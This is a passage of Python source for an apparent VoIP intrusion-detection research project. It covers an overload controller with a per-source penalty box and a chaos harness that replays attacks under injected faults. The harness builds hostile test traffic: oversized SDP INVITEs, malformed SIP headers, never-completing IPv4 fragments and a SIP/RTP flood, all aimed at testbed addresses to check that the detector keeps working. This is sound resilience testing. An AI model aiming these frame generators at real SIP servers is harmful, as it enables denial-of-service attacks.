        return min(
            row[zlib.crc32(key, salt * 0x9E3779B1) % self.width]
            for salt, row in enumerate(self.rows)
        )

    def halve(self) -> None:
        """Exponential decay: old traffic ages out of the window."""
        for row in self.rows:
            for i, value in enumerate(row):
                if value:
                    row[i] = value >> 1
        self.total >>= 1


def format_source(source: bytes) -> str:
    if len(source) == 4:
        return ".".join(str(b) for b in source)
    return source.hex() or "?"


class SourceAccountant:
    """Per-source heavy-hitter accounting for the penalty box.

    Every routed frame's source address feeds the sketch; a source is
    *heavy* once its windowed estimate clears both an absolute floor
    (``hot_min``) and a share of the window (``hot_share``) — the
    two-part test keeps a busy-but-proportionate subscriber out of the
    penalty box while a flooding source trips it within one window.
    Candidates that ever crossed the threshold are tracked exactly (a
    small dict) so alerts and ``/healthz`` can quote the top-k without
    walking the sketch.
    """

    __slots__ = ("config", "sketch", "frames", "_since_decay", "_candidates")

    def __init__(self, config: OverloadConfig) -> None:
        self.config = config
        self.sketch = CountMinSketch(config.sketch_width, config.sketch_depth)
        self.frames = 0
        self._since_decay = 0
        self._candidates: dict[bytes, int] = {}

    def _floor(self) -> int:
        return max(self.config.hot_min,
                   int(self.sketch.total * self.config.hot_share))

    def record(self, source: bytes) -> None:
        self.frames += 1
        estimate = self.sketch.add(source)
        if estimate >= self._floor():
            self._candidates[source] = estimate
        self._since_decay += 1
        if self._since_decay >= self.config.sketch_window:
            self._since_decay = 0
            self.sketch.halve()
            floor = self._floor()
            survivors = {}
            for key in self._candidates:
                estimate = self.sketch.estimate(key)
                if estimate >= floor:
                    survivors[key] = estimate
            self._candidates = survivors

    def is_heavy(self, source: bytes) -> bool:
        if source not in self._candidates:
            return False
        return self.sketch.estimate(source) >= self._floor()

    def top_sources(self, k: int | None = None) -> list[tuple[str, int]]:
        k = k if k is not None else self.config.top_k
        ranked = sorted(
            ((key, self.sketch.estimate(key)) for key in self._candidates),
            key=lambda pair: pair[1],
            reverse=True,
        )
        return [(format_source(key), count) for key, count in ranked[:k]]

    def as_dict(self) -> dict:
        return {
            "frames": self.frames,
            "window_total": self.sketch.total,
            "hot_floor": self._floor(),
            "hot_sources": self.top_sources(),
        }


def shed_plan(
    items: Sequence,
    is_heavy: Callable,
    is_signalling: Callable,
    allow_heavy_signalling: bool = False,
) -> tuple[list[list], list]:
    """Partition queued items into penalty-box shed stages.

    Returns ``(stages, protected)``: ``stages`` in strict drop order —
    heavy-source non-signalling first, innocent non-signalling second,
    heavy-source signalling last and only when
    ``allow_heavy_signalling`` (the controller is in ``shed``).
    ``protected`` (innocent signalling, plus heavy signalling outside
    shed) is never dropped; callers deliver it blocking.

    Pure over the two predicates so the ordering invariants — media
    sheds before any signalling, and no innocent frame is dropped at a
    stage before every heavy frame of the same plane class — are
    directly property-testable.
    """
    heavy_other: list = []
    innocent_other: list = []
    heavy_signalling: list = []
    protected: list = []
    for item in items:
        signalling = is_signalling(item)
        heavy = is_heavy(item)
        if signalling:
            if heavy and allow_heavy_signalling:
                heavy_signalling.append(item)
            else:
                protected.append(item)
        elif heavy:
            heavy_other.append(item)
        else:
            innocent_other.append(item)
    return [heavy_other, innocent_other, heavy_signalling], protected


class OverloadController:
    """The per-tick state machine; one per cluster or engine."""

    __slots__ = (
        "config", "name", "emit_alert", "state", "ticks",
        "transitions_total", "transition_log", "last_queue_fill",
        "last_burn_rate", "last_shed_rate", "last_trigger",
        "_calm_streak", "_entered_tick",
    )

    def __init__(
        self,
        config: OverloadConfig | None = None,
        name: str = "cluster",
        emit_alert: Callable[[Alert], None] | None = None,
    ) -> None:
        self.config = (config or OverloadConfig()).validate()
        self.name = name
        self.emit_alert = emit_alert
        self.state = STATE_NORMAL
        self.ticks = 0
        self.transitions_total: dict[str, int] = {}
        self.transition_log: list[dict] = []
        self.last_queue_fill = 0.0
        self.last_burn_rate = 0.0
        self.last_shed_rate = 0.0
        self.last_trigger = ""
        self._calm_streak = 0
        self._entered_tick = 0

    # -- degraded-mode queries (read on hot paths; keep them cheap) ----------

    @property
    def degraded(self) -> bool:
        """Optional work (tracing, dense sampling) should be off."""
        return self.state != STATE_NORMAL

    @property
    def shedding(self) -> bool:
        """Heavy-source frames may be dropped proactively."""
        return self.state == STATE_SHED

    # -- the tick -------------------------------------------------------------

    def observe(
        self,
        timestamp: float,
        queue_fill: float,
        burn_rate: float = 0.0,
        shed_rate: float = 0.0,
        top_sources: Iterable[tuple[str, int]] = (),
    ) -> Alert | None:
        """One controller tick; returns the transition alert, if any.

        ``queue_fill`` is the worst per-worker fill fraction (0..1);
        ``burn_rate`` the latency-budget burn where in-process engines
        make it observable (serial backend, single engine) — queued
        backends drive on queue fill alone; ``shed_rate`` the frames
        dropped this tick divided by ``tick_frames``.  The shed rate is
        what keeps the controller honest *while shedding works*: the
        penalty box drains the queue, so fill alone would read as calm
        mid-flood and the state machine would flap — ongoing drops are
        pressure, whatever the queue says.
        """
        self.ticks += 1
        self.last_queue_fill = queue_fill
        self.last_burn_rate = burn_rate
        self.last_shed_rate = shed_rate
        config = self.config
        want_shed = queue_fill >= config.shed_high
        burning = config.burn_high > 0 and burn_rate >= config.burn_high
        shedding = shed_rate > 0 and shed_rate >= config.shed_rate_low
        pressured = (
            want_shed or queue_fill >= config.queue_high or burning or shedding
        )
        calm = queue_fill <= config.queue_low and not burning and not shedding

        state = self.state
        new_state = None
        if state != STATE_SHED and want_shed:
            new_state = STATE_SHED
        elif state in (STATE_NORMAL, STATE_RECOVERING) and pressured:
            new_state = STATE_BROWNOUT
        elif state == STATE_BROWNOUT:
            if calm:
                self._calm_streak += 1
                if self._calm_streak >= config.dwell_ticks:
                    new_state = STATE_RECOVERING
            else:
                self._calm_streak = 0
        elif state == STATE_SHED:
            if not want_shed and not shedding:
                self._calm_streak += 1
                if self._calm_streak >= config.dwell_ticks:
                    new_state = STATE_BROWNOUT if pressured else STATE_RECOVERING
            else:
                self._calm_streak = 0
        elif state == STATE_RECOVERING:
            if calm:
                self._calm_streak += 1
                if self._calm_streak >= config.recovery_ticks:
                    new_state = STATE_NORMAL

        if new_state is None or new_state == state:
            return None
        trigger = self._describe_trigger(
            queue_fill, burn_rate, shed_rate, want_shed, burning, shedding
        )
        return self._transition(timestamp, new_state, trigger, list(top_sources))

    def _describe_trigger(
        self,
        queue_fill: float,
        burn_rate: float,
        shed_rate: float,
        want_shed: bool,
        burning: bool,
        shedding: bool,
    ) -> str:
        config = self.config
        if want_shed:
            return f"queue fill {queue_fill:.2f} >= shed_high {config.shed_high:g}"
        if queue_fill >= config.queue_high:
            return f"queue fill {queue_fill:.2f} >= queue_high {config.queue_high:g}"
        if burning:
            return f"burn rate {burn_rate:.2f} >= burn_high {config.burn_high:g}"
        if shedding:
            return (
                f"shed rate {shed_rate:.2f} >= shed_rate_low "
                f"{config.shed_rate_low:g}"
            )
        return (
            f"calm for {self._calm_streak} tick(s) "
            f"(queue fill {queue_fill:.2f}, burn {burn_rate:.2f})"
        )

    def _transition(
        self,
        timestamp: float,
        new_state: str,
        trigger: str,
        top_sources: list[tuple[str, int]],
    ) -> Alert:
        old_state = self.state
        self.state = new_state
        self._calm_streak = 0
        self._entered_tick = self.ticks
        self.last_trigger = trigger
        key = f"{old_state}->{new_state}"
        self.transitions_total[key] = self.transitions_total.get(key, 0) + 1
        record = {
            "tick": self.ticks,
            "time": timestamp,
            "from": old_state,
            "to": new_state,
            "trigger": trigger,
            "top_sources": top_sources,
        }
        self.transition_log.append(record)
        del self.transition_log[:-_TRANSITION_LOG_LIMIT]
        alert = self._transition_alert(timestamp, old_state, new_state,
                                       trigger, top_sources)
        if self.emit_alert is not None:
            self.emit_alert(alert)
        return alert

    def _transition_alert(
        self,
        timestamp: float,
        old_state: str,
        new_state: str,
        trigger: str,
        top_sources: list[tuple[str, int]],
    ) -> Alert:
        sources = ", ".join(f"{ip}({count})" for ip, count in top_sources)
        return Alert(
            rule_id=f"{TRANSITION_RULE_PREFIX}{new_state.upper()}",
            rule_name="self-diagnostic: overload controller transition",
            time=timestamp,
            session="",
            severity=_TRANSITION_SEVERITY[new_state],
            attack_class="self-diagnostic",
            message=(
                f"{self.name!r} overload state {old_state} -> {new_state} "
                f"at tick {self.ticks}: {trigger}"
                + (f"; top sources: {sources}" if sources else "")
            ),
        )

    def as_dict(self) -> dict:
        """The /healthz and ``repro stats`` view."""
        return {
            "state": self.state,
            "state_value": STATE_VALUES[self.state],
            "ticks": self.ticks,
            "ticks_in_state": self.ticks - self._entered_tick,
            "queue_fill": round(self.last_queue_fill, 4),
            "burn_rate": round(self.last_burn_rate, 4),
            "shed_rate": round(self.last_shed_rate, 4),
            "last_trigger": self.last_trigger,
            "transitions_total": dict(sorted(self.transitions_total.items())),
            "transitions": list(self.transition_log[-8:]),
        }


class EngineOverload:
    """Single-engine harness: drives a controller off the engine's own
    latency-budget burn rate and degrades/restores its optional work.

    The CLI attaches one to ``--overload`` replays; ``record_frame``
    is called per processed frame and ticks the controller every
    ``tick_frames``.  In degraded states the engine's optional work is
    floored live (per-rule cost sampling off, stage/module summary
    sketches widened to 1-in-64); on the return to ``normal`` the
    original rates heal.
    """

    _DEGRADED_SUMMARY_SAMPLE = 64

    def __init__(self, engine, config: OverloadConfig | None = None) -> None:
        self.engine = engine
        self.controller = OverloadController(
            config=config,
            name=getattr(engine, "name", "engine"),
            emit_alert=engine._emit_self_alert,
        )
        self.frames = 0
        self._saved_rates: tuple[int, int] | None = None

    def record_frame(self, timestamp: float) -> None:
        self.frames += 1
        if self.frames % self.controller.config.tick_frames:
            return
        budget = getattr(self.engine, "latency_budget", None)
        burn = budget.burn_rate if budget is not None else 0.0
        self.controller.observe(timestamp, queue_fill=0.0, burn_rate=burn)
        self._apply_degradation()

    def _apply_degradation(self) -> None:
        # Degrade the live knobs the hot path actually reads per frame:
        # RuleSet.cost_sample_rate and the instrumentation's summary
        # sampling stride (the Observability context's rates are only
        # consulted at engine construction).
        ruleset = getattr(self.engine, "ruleset", None)
        instr = getattr(self.engine, "_instr", None)
        if self.controller.degraded and self._saved_rates is None:
            self._saved_rates = (
                ruleset.cost_sample_rate if ruleset is not None else 0,
                instr.summary_sample if instr is not None else 1,
            )
            if ruleset is not None:
                ruleset.cost_sample_rate = 0
            if instr is not None:
                instr.summary_sample = max(
                    instr.summary_sample, self._DEGRADED_SUMMARY_SAMPLE
                )
        elif not self.controller.degraded and self._saved_rates is not None:
            if ruleset is not None:
                ruleset.cost_sample_rate = self._saved_rates[0]
            if instr is not None:
                instr.summary_sample = self._saved_rates[1]
            self._saved_rates = None

    def as_dict(self) -> dict:
        view = self.controller.as_dict()
        view["degraded_sampling"] = self._saved_rates is not None
        return view
