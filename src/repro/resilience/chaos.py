"""The chaos harness behind ``repro chaos``: attack replay under fault.

An IDS earns trust by what it does on its *worst* day, so this module
replays the paper's four attack scenarios while actively trying to break
the pipeline with the faults a hostile or merely unlucky network
produces:

* **frame mutation** — bit flips and truncations of media-plane frames
  (interleaved *copies*; the originals still flow, so the attack's
  signalling evidence is intact and its alerts must still fire);
* **hostile signalling** — synthesized SIP with oversized SDP bodies,
  invalid UTF-8 headers, truncated start lines and raw garbage on the
  SIP port, each under its own Call-ID so it cannot legitimately alter
  the real dialogs;
* **fragment bombs** — IPv4 fragments that never complete, aimed at the
  reassembly buffers;
* **clock skew** — a tail segment replayed one hour in the future and
  then back in the past, after the originals so state expiry cannot
  retroactively suppress alerts that already fired;
* **worker crashes** — in cluster mode, ``inject_crash`` against
  rotating workers with checkpointing on;
* **volumetric flood** — a sustained INVITE/RTP burst from one flood
  host interleaved through the replay (``flood_frames > 0``).  Cluster
  mode runs with the overload control plane enabled and a deliberately
  shallow queue, so the run exercises the penalty box for real: the
  invariant is that the controller *reports shed* while the attack's
  signalling alerts still fire.

Invariants checked per attack (the definition of surviving the day):

1. **no uncaught exception** anywhere on the frame path;
2. **the attack is still detected** — the scenario's headline rule
   appears in the alert output despite the noise;
3. **bounded state** — live trails and pending reassembly buffers end
   the run below their configured bounds (the fragment bombs and skew
   segment exist precisely to test this).

Everything is seeded: the same :class:`ChaosConfig` replays the same
chaos, so a failure found in CI reproduces on a laptop.
"""

from __future__ import annotations

import random
import zlib
from dataclasses import dataclass, field

from repro.cluster.sharding import PLANE_SIGNALLING, shard_key
from repro.net.addr import IPv4Address, MacAddress
from repro.net.packet import (
    ETHERTYPE_IPV4,
    IPPROTO_UDP,
    EthernetFrame,
    IPv4Packet,
    build_udp_frame,
)

# The four paper attacks and the rule that *must* survive the chaos.
REQUIRED_RULES = {
    "bye-attack": "BYE-001",
    "call-hijack": "HIJACK-001",
    "fake-im": "FAKEIM-001",
    "rtp-attack": "RTP-003",
}

_CHAOS_MAC = MacAddress("de:ad:be:ef:00:66")
_PROXY_MAC = MacAddress("de:ad:be:ef:00:01")
_CHAOS_IP = IPv4Address.parse("10.66.66.66")
_PROXY_IP = IPv4Address.parse("10.0.0.1")
# The flood host is distinct from the hostile-signalling host so the
# penalty box's heavy-hitter verdict lands on the volume, not the noise.
_FLOOD_MAC = MacAddress("de:ad:be:ef:00:99")
_FLOOD_IP = IPv4Address.parse("10.66.66.99")

_ETH_HEADER_LEN = 14


@dataclass(frozen=True)
class ChaosConfig:
    """One reproducible chaos run (every knob feeds the seeded RNG)."""

    seed: int = 7
    attacks: tuple[str, ...] = tuple(sorted(REQUIRED_RULES))
    # 0 = single engine; >= 1 = ScidiveCluster with that many workers.
    workers: int = 0
    backend: str = "threads"
    inject_crashes: bool = True      # cluster mode only
    mutation_rate: float = 0.25      # P(media frame spawns a mutant copy)
    synth_sip: int = 16              # hostile signalling frames per attack
    fragment_bombs: int = 32         # never-completing fragments per attack
    skew_frames: int = 20            # frames replayed under clock skew
    flood_frames: int = 0            # sustained INVITE/RTP flood (0 = off)
    trail_bound: int = 10_000
    reassembly_bound: int = 4_096

    def validate(self) -> "ChaosConfig":
        unknown = [a for a in self.attacks if a not in REQUIRED_RULES]
        if unknown:
            raise ValueError(
                f"unknown attacks {unknown}; known: {sorted(REQUIRED_RULES)}"
            )
        if self.workers < 0:
            raise ValueError(f"workers must be >= 0 (got {self.workers})")
        if not 0.0 <= self.mutation_rate <= 1.0:
            raise ValueError(f"mutation_rate must be in [0, 1] (got {self.mutation_rate})")
        if self.flood_frames < 0:
            raise ValueError(
                f"flood_frames must be >= 0 (got {self.flood_frames})"
            )
        return self


@dataclass
class AttackOutcome:
    """What one attack's replay-under-fault produced."""

    attack: str
    required_rule: str
    frames: int = 0
    mutants: int = 0
    flood: int = 0
    alerts: int = 0
    detected: bool = False
    exceptions: list = field(default_factory=list)   # (stage, repr) pairs
    live_trails: int = 0
    reassembly_pending: int = 0
    worker_restarts: int = 0
    checkpoints: int = 0
    overload: dict = field(default_factory=dict)     # cluster flood runs only
    violations: list = field(default_factory=list)

    def as_dict(self) -> dict:
        return {
            "attack": self.attack,
            "required_rule": self.required_rule,
            "frames": self.frames,
            "mutants": self.mutants,
            "flood": self.flood,
            "alerts": self.alerts,
            "detected": self.detected,
            "exceptions": list(self.exceptions),
            "live_trails": self.live_trails,
            "reassembly_pending": self.reassembly_pending,
            "worker_restarts": self.worker_restarts,
            "checkpoints": self.checkpoints,
            "overload": dict(self.overload),
            "violations": list(self.violations),
        }


@dataclass
class ChaosReport:
    """The harness verdict: per-attack outcomes plus the global gate."""

    config: ChaosConfig
    outcomes: list = field(default_factory=list)

    @property
    def ok(self) -> bool:
        return all(not outcome.violations for outcome in self.outcomes)

    @property
    def violations(self) -> list:
        return [
            f"{outcome.attack}: {violation}"
            for outcome in self.outcomes
            for violation in outcome.violations
        ]

    def as_dict(self) -> dict:
        return {
            "ok": self.ok,
            "seed": self.config.seed,
            "workers": self.config.workers,
            "backend": self.config.backend if self.config.workers else "engine",
            "attacks": [outcome.as_dict() for outcome in self.outcomes],
            "violations": self.violations,
        }


# ---------------------------------------------------------------------------
# Fault generators
# ---------------------------------------------------------------------------


def _mutate_bit_flip(rng: random.Random, frame: bytes) -> bytes:
    """Flip 1-3 bits past the Ethernet header (the classic line noise)."""
    raw = bytearray(frame)
    for _ in range(rng.randint(1, 3)):
        at = rng.randrange(_ETH_HEADER_LEN, len(raw)) if len(raw) > _ETH_HEADER_LEN else 0
        raw[at] ^= 1 << rng.randrange(8)
    return bytes(raw)


def _mutate_truncate(rng: random.Random, frame: bytes) -> bytes:
    """Cut the frame mid-packet (a capture or MTU casualty)."""
    if len(frame) <= 2:
        return frame
    return frame[: rng.randrange(1, len(frame))]


_MUTATORS = (_mutate_bit_flip, _mutate_truncate)


def _synth_sip_frames(rng: random.Random, count: int) -> list:
    """Hostile signalling under private Call-IDs: oversized SDP, invalid
    UTF-8 headers, truncated messages, raw garbage on the SIP port."""
    frames = []
    for n in range(count):
        call_id = f"chaos-{rng.randrange(1 << 30)}-{n}@evil"
        shape = n % 4
        if shape == 0:
            # Oversized SDP body — a decoder that buffers naively eats 50 KB.
            body = b"v=0\r\n" + b"a=" + b"A" * 50_000 + b"\r\n"
            payload = (
                f"INVITE sip:victim@10.0.0.1 SIP/2.0\r\n"
                f"Call-ID: {call_id}\r\n"
                f"From: <sip:mallory@evil>;tag=1\r\nTo: <sip:victim@10.0.0.1>\r\n"
                f"CSeq: 1 INVITE\r\nContent-Type: application/sdp\r\n"
                f"Content-Length: {len(body)}\r\n\r\n"
            ).encode() + body
        elif shape == 1:
            # Invalid UTF-8 in a header value.
            payload = (
                b"MESSAGE sip:victim@10.0.0.1 SIP/2.0\r\n"
                b"Call-ID: " + call_id.encode() + b"\r\n"
                b"Subject: \xff\xfe\xfd broken \x80 encoding\r\n"
                b"From: <sip:mallory@evil>;tag=1\r\nTo: <sip:victim@10.0.0.1>\r\n"
                b"CSeq: 1 MESSAGE\r\nContent-Length: 0\r\n\r\n"
            )
        elif shape == 2:
            payload = b"INVITE sip:trunca"  # mid-start-line truncation
        else:
            payload = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 64)))
        frames.append(
            build_udp_frame(
                _CHAOS_MAC, _PROXY_MAC, _CHAOS_IP, _PROXY_IP,
                rng.randrange(1024, 65535), 5060, payload,
                identification=rng.randrange(1 << 16),
            )
        )
    return frames


def _fragment_bombs(rng: random.Random, count: int) -> list:
    """First fragments whose tails never arrive: each occupies a
    reassembly slot until the timeout sweep evicts it."""
    frames = []
    for _ in range(count):
        ip = IPv4Packet(
            src=_CHAOS_IP,
            dst=_PROXY_IP,
            protocol=IPPROTO_UDP,
            payload=bytes(8) + bytes(rng.randrange(256) for _ in range(64)),
            identification=rng.randrange(1 << 16),
            flags_mf=True,  # "more fragments" — a lie, forever
        )
        frames.append(
            EthernetFrame(
                dst=_PROXY_MAC, src=_CHAOS_MAC,
                ethertype=ETHERTYPE_IPV4, payload=ip.encode(),
            ).encode()
        )
    return frames


def _flood_frames(rng: random.Random, count: int) -> list:
    """A volumetric burst from one flood host: fresh-Call-ID INVITEs
    (signalling broadcast — the expensive plane) alternating with RTP
    datagrams at a media port.  One source address on purpose: the
    penalty box must be able to name the flooder."""
    frames = []
    for n in range(count):
        if n % 2 == 0:
            payload = (
                f"INVITE sip:victim@10.0.0.1 SIP/2.0\r\n"
                f"Via: SIP/2.0/UDP 10.66.66.99:5060;branch=z9hG4bKfl{n:08x}\r\n"
                f"Call-ID: flood-{n:08x}@evil\r\n"
                f"From: <sip:flood@evil>;tag=f{n:x}\r\n"
                f"To: <sip:victim@10.0.0.1>\r\n"
                f"CSeq: 1 INVITE\r\nContent-Length: 0\r\n\r\n"
            ).encode()
            src_port, dst_port = 5060, 5060
        else:
            payload = (
                b"\x80\x00"
                + (n & 0xFFFF).to_bytes(2, "big")
                + ((n * 160) & 0xFFFFFFFF).to_bytes(4, "big")
                + b"\xf1\x00\xd9\x90"
                + b"\x00" * 24
            )
            src_port, dst_port = 20066, 20000
        frames.append(
            build_udp_frame(
                _FLOOD_MAC, _PROXY_MAC, _FLOOD_IP, _PROXY_IP,
                src_port, dst_port, payload,
                identification=rng.randrange(1 << 16),
            )
        )
    return frames


def _build_chaos_stream(rng: random.Random, records, config: ChaosConfig):
    """Interleave faults into one attack trace.

    Returns ``(stream, mutants)`` where ``stream`` is a list of
    ``(frame, timestamp)``.  Originals keep their order and timestamps,
    so the attack's own alert-bearing sequences are untouched; every
    injected frame is an *addition* the pipeline must shrug off.
    """
    stream = []
    mutants = 0
    synth = _synth_sip_frames(rng, config.synth_sip)
    bombs = _fragment_bombs(rng, config.fragment_bombs)
    extras = synth + bombs
    rng.shuffle(extras)
    flood = _flood_frames(rng, config.flood_frames) if config.flood_frames else []
    flood_sent = 0
    # Spread the injected frames across the replay.
    inject_every = max(1, len(records) // max(1, len(extras)))
    extra_iter = iter(extras)
    for index, record in enumerate(records):
        frame, ts = record.frame, record.timestamp
        stream.append((frame, ts))
        # Flood frames interleave uniformly, so queue pressure is
        # *sustained* across the replay rather than one terminal burst.
        if flood:
            quota = (index + 1) * len(flood) // len(records)
            while flood_sent < quota:
                stream.append((flood[flood_sent], ts))
                flood_sent += 1
        # Media-plane frames spawn mutated twins; signalling stays clean
        # so the dialog evidence the rules need is never itself corrupted.
        if (
            config.mutation_rate > 0
            and rng.random() < config.mutation_rate
            and shard_key(frame).plane != PLANE_SIGNALLING
        ):
            mutator = _MUTATORS[rng.randrange(len(_MUTATORS))]
            stream.append((mutator(rng, frame), ts))
            mutants += 1
        if index % inject_every == 0:
            extra = next(extra_iter, None)
            if extra is not None:
                stream.append((extra, ts))
                mutants += 1
    for extra in extra_iter:
        stream.append((extra, records[-1].timestamp if records else 0.0))
        mutants += 1
    while flood_sent < len(flood):
        stream.append((flood[flood_sent], records[-1].timestamp if records else 0.0))
        flood_sent += 1
    # Clock-skew tail: replay a slice one hour in the future (forcing
    # every expiry sweep at once), then back in the past.  Placed after
    # the originals so expiry cannot suppress alerts that already fired.
    if records and config.skew_frames:
        tail = [r for r in records[-config.skew_frames:]]
        last_ts = records[-1].timestamp
        for record in tail:
            stream.append((record.frame, last_ts + 3600.0))
            mutants += 1
        for record in tail:
            stream.append((record.frame, max(0.0, last_ts - 3600.0)))
            mutants += 1
    return stream, mutants


# ---------------------------------------------------------------------------
# The runs
# ---------------------------------------------------------------------------


def _attack_records(attack: str, seed: int):
    from repro.experiments.harness import (
        run_bye_attack,
        run_call_hijack,
        run_fake_im,
        run_rtp_attack,
    )

    runners = {
        "bye-attack": run_bye_attack,
        "call-hijack": run_call_hijack,
        "fake-im": run_fake_im,
        "rtp-attack": run_rtp_attack,
    }
    return list(runners[attack](seed=seed).testbed.ids_tap.trace.records)


def _run_engine(stream, outcome: AttackOutcome, config: ChaosConfig) -> None:
    from repro.core.engine import ScidiveEngine
    from repro.voip.testbed import CLIENT_A_IP

    engine = ScidiveEngine(vantage_ip=CLIENT_A_IP)
    for frame, ts in stream:
        try:
            engine.process_frame(frame, ts)
        except Exception as exc:  # the invariant being tested
            outcome.exceptions.append(("process_frame", repr(exc)))
    outcome.alerts = len(engine.alert_log.alerts)
    outcome.detected = any(
        alert.rule_id == outcome.required_rule
        for alert in engine.alert_log.alerts
    )
    outcome.live_trails = engine.trails.trail_count
    outcome.reassembly_pending = engine.distiller._reassembler.pending


def _run_cluster(stream, outcome: AttackOutcome, config: ChaosConfig) -> None:
    from repro.cluster import ScidiveCluster
    from repro.voip.testbed import CLIENT_A_IP

    extra = {}
    if config.flood_frames:
        # A flood run is an overload-control run: shallow *blocking*
        # queues so the flood drives fill to 1.0 and the controller to
        # shed, while every innocent frame is still delivered — the only
        # shedding is the penalty box's door-drop of the heavy source,
        # so the attack's evidence survives deterministically.
        from repro.resilience.overload import OverloadConfig

        extra = dict(
            overload_enabled=True,
            overload_config=OverloadConfig(
                tick_frames=64, hot_min=32, dwell_ticks=2, recovery_ticks=2
            ),
            queue_depth=8,
            overflow="block",
        )
    cluster = ScidiveCluster(
        workers=config.workers,
        backend=config.backend,
        batch_size=16,
        vantage_ip=CLIENT_A_IP,
        checkpoint_every=1,
        **extra,
    )
    cluster.start()
    crash_at = {len(stream) // 3: 0, (2 * len(stream)) // 3: 1}
    try:
        for index, (frame, ts) in enumerate(stream):
            try:
                cluster.submit_frame(frame, ts)
            except Exception as exc:
                outcome.exceptions.append(("submit_frame", repr(exc)))
            if config.inject_crashes and index in crash_at:
                cluster.flush()
                cluster.inject_crash(crash_at[index] % config.workers)
        result = cluster.stop()
    except Exception as exc:
        outcome.exceptions.append(("cluster", repr(exc)))
        return
    outcome.alerts = len(result.alerts)
    outcome.detected = any(
        alert.rule_id == outcome.required_rule for alert in result.alerts
    )
    outcome.worker_restarts = result.cluster.worker_restarts
    outcome.checkpoints = sum(worker.checkpoints for worker in result.workers)
    if config.flood_frames:
        outcome.overload = cluster.overload_status()


def run_chaos(config: ChaosConfig | None = None, **overrides) -> ChaosReport:
    """Replay every configured attack under fault injection and judge
    the invariants.  Deterministic for a given config."""
    if config is None:
        config = ChaosConfig(**overrides)
    elif overrides:
        from dataclasses import replace

        config = replace(config, **overrides)
    config.validate()
    report = ChaosReport(config=config)
    for attack in config.attacks:
        # crc32, not hash(): str hashing is salted per process and would
        # make "the same seed replays the same chaos" a lie.
        rng = random.Random(config.seed ^ zlib.crc32(attack.encode()))
        records = _attack_records(attack, config.seed)
        stream, mutants = _build_chaos_stream(rng, records, config)
        outcome = AttackOutcome(
            attack=attack,
            required_rule=REQUIRED_RULES[attack],
            frames=len(stream),
            mutants=mutants,
            flood=config.flood_frames,
        )
        if config.workers:
            _run_cluster(stream, outcome, config)
        else:
            _run_engine(stream, outcome, config)
        _judge(outcome, config)
        report.outcomes.append(outcome)
    return report


def _judge(outcome: AttackOutcome, config: ChaosConfig) -> None:
    if outcome.exceptions:
        outcome.violations.append(
            f"{len(outcome.exceptions)} uncaught exception(s); first: "
            f"{outcome.exceptions[0][1]}"
        )
    if not outcome.detected:
        outcome.violations.append(
            f"required rule {outcome.required_rule} missing from alerts"
        )
    if config.flood_frames and config.workers:
        # The flood invariant pair: the controller must have escalated
        # to shed (the flood was real pressure) *and* the attack's
        # signalling alert must have survived the shedding (checked by
        # the `detected` invariant above) — degraded-mode detection.
        transitions = outcome.overload.get("transitions_total", {})
        if not any(key.endswith("->shed") for key in transitions):
            outcome.violations.append(
                "flood never drove the overload controller to shed "
                f"(transitions: {transitions or '{}'})"
            )
    if not config.workers:  # worker engines are out of reach in cluster mode
        if outcome.live_trails > config.trail_bound:
            outcome.violations.append(
                f"live trails {outcome.live_trails} > bound {config.trail_bound}"
            )
        if outcome.reassembly_pending > config.reassembly_bound:
            outcome.violations.append(
                f"reassembly pending {outcome.reassembly_pending} > "
                f"bound {config.reassembly_bound}"
            )


def format_report(report: ChaosReport) -> str:
    """Human-readable verdict for the ``repro chaos`` CLI."""
    config = report.config
    mode = (
        f"{config.workers} workers ({config.backend})"
        if config.workers
        else "single engine"
    )
    flood = f"  flood={config.flood_frames}" if config.flood_frames else ""
    lines = [
        f"chaos run: seed={config.seed}  mode={mode}  "
        f"mutation_rate={config.mutation_rate}{flood}",
        "",
        f"{'attack':<14} {'frames':>7} {'faults':>7} {'alerts':>7} "
        f"{'rule':<12} {'verdict'}",
    ]
    for outcome in report.outcomes:
        verdict = "ok" if not outcome.violations else "FAIL"
        lines.append(
            f"{outcome.attack:<14} {outcome.frames:>7} {outcome.mutants:>7} "
            f"{outcome.alerts:>7} {outcome.required_rule:<12} {verdict}"
        )
        for violation in outcome.violations:
            lines.append(f"    ! {violation}")
    lines.append("")
    lines.append(
        "PASS: all invariants held" if report.ok
        else f"FAIL: {len(report.violations)} invariant violation(s)"
    )
    return "\n".join(lines)
