"""Crash safety for the SCIDIVE pipeline: checkpoints, firewall, chaos.

SCIDIVE's whole value is *stateful* detection — the BYE and Call Hijack
rules only fire if the SIP dialog state assembled over many packets
survives to the matching moment — so the IDS must stay correct while
crashing workers, hostile input and clock skew try to take that state
away.  Three cooperating pieces:

* :mod:`repro.resilience.checkpoint` — a versioned, serializable
  snapshot of a :class:`~repro.core.engine.ScidiveEngine`'s detection
  state (trails, SIP dialog/registration trackers, generator and rule
  state machines, reassembly buffers, the alert log).  Cluster workers
  write one periodically; ``worker.respawn()`` restores it so a crash
  costs at most one checkpoint interval of state, not the whole shard.

* :mod:`repro.resilience.firewall` — a per-stage exception quarantine.
  Decoder, generator and rule callbacks run behind it; an exception is
  counted (``scidive_stage_errors_total``), the frame path continues,
  and a repeatedly-throwing component is disabled by a circuit breaker
  that raises a self-diagnostic alert instead of killing the pipeline.

* :mod:`repro.resilience.chaos` — the fault-injection harness behind
  ``repro chaos``: replays the paper's four attacks while injecting
  mutated frames, worker crashes and clock skew, then checks the
  invariants (no uncaught exception, bounded state, signalling-plane
  alerts preserved).

* :mod:`repro.resilience.overload` — the closed-loop overload control
  plane: a hysteresis state machine (normal → brownout → shed →
  recovering) driven by queue fill and latency-budget burn, plus a
  count-min-sketch per-source penalty box so volumetric floods shed the
  attacker's frames before an innocent subscriber's signalling.
"""

from repro.resilience.checkpoint import (
    CHECKPOINT_VERSION,
    CheckpointError,
    RulePackMismatch,
    engine_checkpoint,
    engine_restore,
)
from repro.resilience.firewall import (
    STAGE_DECODER,
    STAGE_GENERATOR,
    STAGE_RULE,
    QUARANTINE_RULE_ID,
    StageFirewall,
)
from repro.resilience.overload import (
    OVERLOAD_STATES,
    STATE_BROWNOUT,
    STATE_NORMAL,
    STATE_RECOVERING,
    STATE_SHED,
    TRANSITION_RULE_PREFIX,
    CountMinSketch,
    EngineOverload,
    OverloadConfig,
    OverloadController,
    SourceAccountant,
    shed_plan,
)

_CHAOS_EXPORTS = {"ChaosConfig", "ChaosReport", "format_report", "run_chaos"}


def __getattr__(name: str):
    # The chaos harness imports the experiment harness, which imports the
    # engine — which imports the firewall from this package.  Loading
